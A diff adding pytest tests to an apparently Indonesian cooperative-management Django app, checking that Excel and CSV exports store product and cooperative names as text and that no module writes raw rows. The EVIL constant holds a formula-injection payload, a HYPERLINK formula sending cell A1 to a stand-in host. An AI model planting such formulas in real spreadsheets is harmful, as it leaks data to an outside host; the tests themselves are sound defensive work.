@@ -3,13 +3,16 @@
 import csv
 import datetime as dt
 import io
+import re
 from decimal import Decimal
+from pathlib import Path
 
 import pytest
 from openpyxl import load_workbook
 
 from kopdig.lib.documents import csv_cell, xlsx_bytes
 from kopdig.members.models import Member
+from kopdig.tenancy.models import Cooperative
 
 EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
 
@@ -96,3 +99,53 @@ def test_ledger_csv_export_quotes_memos_that_start_like_formulas(world, client, 
     memos = [r["keterangan"] for r in rows if r["no_bukti"]]
     assert "'@SUM(A1:A9)" in memos and "'-3" in memos
     assert not any(m[:1] in "=+-@" for m in memos)
+
+
+@pytest.mark.django_db
+def test_usaha_catalogue_excel_writes_the_product_name_as_text(world, client):
+    from kopdig.usaha.actions import product_create
+
+    product_create(
+        actor=world.pengurus_a,
+        cooperative=world.coop_a,
+        code="jebakan",
+        name=EVIL,
+        price_member="1000",
+        price_non_member="1200",
+        packaging="=1+1",
+    )
+    client.force_login(world.pengurus_a)
+    resp = client.get("/k/ksu-sejahtera/usaha/produk/excel/")
+    assert resp.status_code == 200
+    cells = {c.value: c.data_type for c in _cells(resp.content) if c.value in (EVIL, "=1+1")}
+    assert cells == {EVIL: "s", "=1+1": "s"}
+
+
+@pytest.mark.django_db
+def test_ledger_report_workbook_writes_the_cooperatives_name_as_text(world, client):
+    """The statements' letterhead rows hold the cooperative's name (entered by the Dinas)."""
+    Cooperative.objects.filter(pk=world.coop_a.pk).update(name=EVIL)
+    client.force_login(world.pengurus_a)
+    resp = client.get("/k/ksu-sejahtera/buku/laporan/neraca-saldo/", {"format": "xlsx"})
+    assert resp.status_code == 200
+    assert [c.data_type for c in _cells(resp.content) if c.value == EVIL] == ["s"]
+
+
+def test_every_spreadsheet_and_csv_writer_goes_through_lib_documents():
+    """Exports of usaha, programs, network, health, dinas and the rest write rows with
+    ``xlsx_response``/``xlsx_bytes``/``xlsx_append`` (text cells) and CSV with ``csv_cell``:
+    no module outside lib appends raw rows to a worksheet or a csv writer."""
+    root = Path(__file__).resolve().parents[2]
+    raw = re.compile(r"\bws\.append\(|\.cell\([^)]*value=|csv\.writer\(")
+    offenders = []
+    for path in root.rglob("*.py"):
+        rel = path.relative_to(root).as_posix()
+        if {"tests", "migrations"} & set(path.parts) or rel.startswith("lib/documents"):
+            continue
+        text = path.read_text()
+        for match in raw.finditer(text):
+            line = text[: match.start()].count("\n") + 1
+            if "csv.writer(" in match.group(0) and "csv_cell(" in text:
+                continue  # the ledger CSV: every user-text column passes csv_cell (tested above)
+            offenders.append(f"{rel}:{line}")
+    assert offenders == []
